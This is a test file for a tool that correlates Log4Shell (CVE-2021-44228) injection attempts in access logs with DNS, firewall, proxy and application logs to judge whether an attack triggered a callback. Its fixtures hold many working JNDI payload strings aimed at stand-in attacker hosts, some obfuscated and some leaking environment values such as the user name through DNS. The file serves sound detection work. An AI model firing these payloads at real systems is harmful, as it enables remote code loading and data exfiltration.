import { describe, expect, test } from 'vitest'
import { joinedWith, saidOf } from '../../../test/kit/joining.ts'

const access = (payload: string, time = '12:43:11', from = '203.0.113.83'): string =>
  `${from} - - [10/Dec/2021:${time} +0000] "GET / HTTP/1.1" 200 612 "-" "${payload}"\n`
const query = (name: string, time = '12:43:12', by = '10.0.0.5'): string =>
  `10-Dec-2021 ${time}.416 queries: info: client @0x7f2a40 ${by}#53211 (${name}): query: ${name} IN A +E(0)K (10.0.0.53)\n`
const packet = (to: string, port: number, time = '12:43:12', by = '10.0.0.5'): string =>
  `Dec 10 ${time} fw kernel: [1.5] OUT: IN= OUT=eth0 SRC=${by} DST=${to} LEN=60 PROTO=TCP SPT=40000 DPT=${port} SYN\n`
const caught = (asked: string, token: string | null, channel = 'ldap', did = 'search'): string =>
  `${JSON.stringify({ seq: 1, at: Date.UTC(2021, 11, 10, 12, 43, 12), channel, transport: 'tcp', did, asked, token, peer: { address: '10.0.0.5', port: 4 }, local: { address: '10.0.0.9', port: 1389 }, raw: '30' })}\n`

const plainName = access('${jndi:ldap://x.evil.example:1389/a}')
const plainAddress = access('${jndi:ldap://198.51.100.66:1389/a}')
const token = 'abcdefghijklmnop2345'

describe('what another log shows of an attack', () => {
  test.each([
    ['a server asks for its name', plainName, query('x.evil.example'), 'likely'],
    ['in other letters', plainName, query('X.EviL.example'), 'likely'],
    ['a resolver asks on behalf of a server', plainName, query('x.evil.example', '12:43:12', '10.0.0.53'), 'likely'],
    ['a connection to its address and port', plainAddress, packet('198.51.100.66', 1389), 'likely'],
    [
      'the address is written as one number',
      access('${jndi:ldap://3325256770:1389/a}'),
      packet('198.51.100.66', 1389),
      'likely',
    ],
    [
      'the address is written in three numbers',
      access('${jndi:ldap://198.51.25666:1389/a}'),
      packet('198.51.100.66', 1389),
      'likely',
    ],
    [
      'a name with a value of the process in it',
      access('${jndi:ldap://${env:USER}.evil.example/a}'),
      query('root.evil.example'),
      'callback-seen',
    ],
    [
      'a value with a dot in it',
      access('${jndi:ldap://${hostName}.evil.example/a}'),
      query('web1.corp.evil.example'),
      'callback-seen',
    ],
    [
      'a name that nobody wrote so',
      access('${jndi:ldap://${lower:E}vil.example/a}'),
      query('evil.example'),
      'callback-seen',
    ],
    ['servers of a domain', access('${jndi:ldap:///dc=evil,dc=example}'), query('_ldap._tcp.evil.example'), 'likely'],
    [
      'our own listener knew its token',
      access(`\${jndi:ldap://10.0.0.9:1389/${token}}`),
      caught(token, token),
      'callback-seen',
    ],
    [
      'our own listener was asked for the name only',
      access(`\${jndi:ldap://${token}.cb.example/${token}}`),
      caught(`${token}.cb.example`, token, 'dns', 'A'),
      'likely',
    ],
    [
      'our own listener was asked itself',
      access(`\${jndi:dns://10.0.0.9:53/${token}}`),
      caught(token, token, 'dns', 'TXT'),
      'callback-seen',
    ],
    [
      'the very name, by a protocol of lookups',
      access('${jndi:ldap://10.0.0.9:1389/Basic/x%3D}'),
      caught('Basic/x=', null),
      'callback-seen',
    ],
    ['the name of a server of names', access('${jndi:dns://ns.evil.example/a}'), query('ns.evil.example'), 'likely'],
    [
      'a proxy of ours sent it',
      access('${jndi:ldap://x.evil.example/a}', '12:43:11', '10.0.0.5'),
      query('x.evil.example'),
      'likely',
    ],
  ])('%s', (_case, attacks, other, outcome) => {
    const { findings } = joinedWith(attacks, { 'other.log': other })

    expect(findings.map((each) => each.outcome)).toEqual([outcome])
    expect(saidOf(findings[0])).toHaveLength(1)
  })

  test.each([
    ['another host', plainName, query('y.evil.example')],
    ['a host below it', plainName, query('www.x.evil.example')],
    ['a name that only ends alike', plainName, query('ax.evil.example')],
    ['its name long before', plainName, query('x.evil.example', '12:40:00')],
    ['its name long after', plainName, query('x.evil.example', '13:43:12')],
    [
      'the domain alone, where a value stands before it',
      access('${jndi:ldap://${env:USER}.evil.example/a}'),
      query('evil.example'),
    ],
    [
      'a domain itself, whose servers would be asked for',
      access('${jndi:ldap:///dc=evil,dc=example}'),
      query('evil.example'),
    ],
    ['another address', plainAddress, packet('198.51.100.67', 1389)],
    ['an answer to the one who attacked', plainAddress, packet('198.51.100.66', 51000)],
    ['the attacker asks for the name', plainName, query('x.evil.example', '12:43:12', '203.0.113.83')],
    [
      'another token of ours',
      access(`\${jndi:ldap://10.0.0.9:1389/${token}}`),
      caught('zzzzzzzzzzzzzzzz2345', 'zzzzzzzzzzzzzzzz2345'),
    ],
    ['another name at the same server', access('${jndi:ldap://10.0.0.9:1389/a}'), caught('b', null)],
    [
      'another name that a server is asked for',
      access('${jndi:dns://10.0.0.9:53/name.example}'),
      caught('other.example', null, 'dns', 'TXT'),
    ],
    ['what cannot fire', access('${jndi:http://x.evil.example/a}'), query('x.evil.example')],
  ])('is not: %s', (_case, attacks, other) => {
    const { findings } = joinedWith(attacks, { 'other.log': other })

    expect(findings.map((each) => each.outcome)).toEqual(['attempt'])
    expect(saidOf(findings[0])).toEqual([])
  })
})

test('says who did what, how long after, how often, and how often Log4j would', () => {
  const attack = access('${jndi:ldap://198.51.100.66:1389/${env:USER}}')

  const { findings } = joinedWith(attack, {
    'fw.log': packet('198.51.100.66', 1389) + packet('198.51.100.66', 1389, '12:43:13'),
  })

  expect(saidOf(findings[0])).toEqual([
    '10.0.0.5 connected to 198.51.100.66:1389, 2 times (one message makes Log4j look it up 2 times), 1 s after it',
  ])
  expect(findings[0]?.evidence.at(-1)).toMatchObject({
    kind: 'witness',
    source: 'fw.log',
    line: 1,
    format: 'syslog-rfc3164 > netfilter',
  })
})

test('a record a little before the attack counts, since it was logged when it ended', () => {
  const { findings } = joinedWith(plainName, { 'dns.log': query('x.evil.example', '12:43:01') })

  expect(saidOf(findings[0])[0]).toContain('10 s before it was logged')
})

test('what lies outside of the window is told, and not joined', () => {
  const { notes } = joinedWith(plainName, { 'dns.log': query('x.evil.example', '14:43:11') })

  expect(notes).toEqual([
    'x.evil.example was asked for, or connected to, 1 time outside of the window around attacks that name it, the closest 2 h away: see --window',
  ])
})

test('a callback makes it critical, affected, and says what to do', () => {
  const attack = access('${jndi:ldap://${env:USER}.evil.example/a}')

  const { findings } = joinedWith(attack, { 'dns.log': query('root.evil.example') })

  expect(findings[0]).toMatchObject({ severity: 'critical', cves: [{ id: 'CVE-2021-44228', status: 'affected' }] })
  expect(findings[0]?.remedy).toMatch(/^Take the host off the network/)
})

test('once some attack has the name as it is asked for, evaluation is no longer the only way to it', () => {
  const attacks = access('${jndi:ldap://${lower:E}vil.example/a}') + access('${jndi:ldap://evil.example/a}')

  const { findings } = joinedWith(attacks, { 'dns.log': query('evil.example') })

  expect(findings.map(({ outcome }) => outcome)).toEqual(['likely', 'likely'])
})

test('what Log4j itself says it looked up is joined with the attack that names it', () => {
  const app =
    '2021-12-10 12:43:12,416 main WARN Error looking up JNDI resource [ldap://x.evil.example:1389/a]. javax.naming.CommunicationException\n'

  const { findings } = joinedWith(plainName + access('${jndi:ldap://x.evil.example:1389/other}'), { 'app.log': app })

  expect(findings.map(({ verdict, outcome }) => `${verdict} ${outcome}`)).toEqual([
    'fires likely',
    'fires attempt',
    'evidence likely',
  ])
})

test('a text that stands in place of a payload is joined with what was sent just before', () => {
  const app = (time: string): string =>
    `2021-12-10 ${time},100 INFO user com.sun.jndi.dns.DnsContext@4f3f5b24 logged in\n`

  const near = joinedWith(plainName, { 'app.log': app('12:43:12') })
  const far = joinedWith(plainName, { 'app.log': app('12:45:12') })

  expect(near.findings[0]?.outcome).toBe('likely')
  expect(far.findings[0]?.outcome).toBe('attempt')
})

test('a name in a record that says of nobody that he went out counts for nothing', () => {
  const { findings } = joinedWith(plainName, { 'app.log': '2021-12-10 12:43:12,000 blocked x.evil.example\n' })

  expect(findings[0]?.outcome).toBe('attempt')
})

test('too many attacks are told as they are, and it is said', () => {
  const attacks = Array.from({ length: 5_003 }, () => plainName).join('')

  const { findings, notes } = joinedWith(attacks, {})

  expect(findings).toHaveLength(5_000)
  expect(notes[0]).toContain('3 attacks beyond the first 5,000 were told before')
})

test('of attacks that are long there are too many sooner', () => {
  const long = access(`\${jndi:ldap://x.evil.example:1389/${'a'.repeat(50_000)}}`)

  const { findings, notes } = joinedWith(long.repeat(400), {})

  expect(findings.length).toBeGreaterThan(50)
  expect(findings.length).toBeLessThan(200)
  expect(notes[0]).toContain(`${400 - findings.length} attacks beyond the first ${findings.length} were told before`)
})

describe('an address that its name was answered with', () => {
  const answer = 'dnsmasq[812]: reply x.evil.example is 198.51.100.66\n'
  const zeek = `${JSON.stringify({ ts: 1_639_140_192, uid: 'C1', 'id.orig_h': '10.0.0.5', 'id.orig_p': 5, 'id.resp_h': '10.0.0.53', 'id.resp_p': 53, proto: 'udp', query: 'x.evil.example', qtype_name: 'A', answers: ['198.51.100.66'] })}\n`
  const eve = `${JSON.stringify({ timestamp: '2021-12-10T12:43:12.000000+0000', event_type: 'dns', src_ip: '10.0.0.5', src_port: 5, dest_ip: '10.0.0.53', dest_port: 53, proto: 'UDP', dns: { type: 'answer', rrname: 'x.evil.example', answers: [{ rrname: 'x.evil.example', rrtype: 'A', rdata: '198.51.100.66' }] } })}\n`

  test.each([
    ['dnsmasq', answer],
    ['Zeek', zeek],
    ['Suricata', eve],
  ])('is looked for where a firewall knows no names: %s', (_case, resolver) => {
    const { findings } = joinedWith(plainName, { 'fw.log': packet('198.51.100.66', 1389), 'dns.log': resolver })

    expect(findings[0]?.outcome).toBe('likely')
    expect(saidOf(findings[0])).toContain(
      '10.0.0.5 connected to 198.51.100.66:1389, which x.evil.example was answered with, 1 s after it',
    )
  })

  test('counts for the name also where another attack names the address itself', () => {
    const { findings } = joinedWith(plainName + plainAddress, {
      'fw.log': packet('198.51.100.66', 1389),
      'dns.log': answer,
    })

    expect(findings.map(({ outcome }) => outcome)).toEqual(['likely', 'likely'])
  })

  test.each([
    ['another port', plainName, packet('198.51.100.66', 443), answer],
    ['another name was answered so', plainName, packet('198.51.100.66', 1389), answer.replace('x.evil', 'y.evil')],
    ['long after', plainName, packet('198.51.100.66', 1389, '14:00:00'), answer],
  ])('is not: %s', (_case, attacks, firewall, resolver) => {
    expect(joinedWith(attacks, { 'fw.log': firewall, 'dns.log': resolver }).findings[0]?.outcome).toBe('attempt')
  })

  test('a record that has both the name and the address is counted once', () => {
    const squid =
      '1639140192.000    512 10.0.0.5 TCP_TUNNEL/200 39 CONNECT x.evil.example:1389 - HIER_DIRECT/198.51.100.66 -\n'

    const { findings } = joinedWith(plainName, { 'squid.log': squid, 'dns.log': answer })

    expect(saidOf(findings[0])).toEqual([
      '10.0.0.5 connected to x.evil.example:1389 by HTTP, for x.evil.example:1389, 1 s after it',
    ])
  })
})
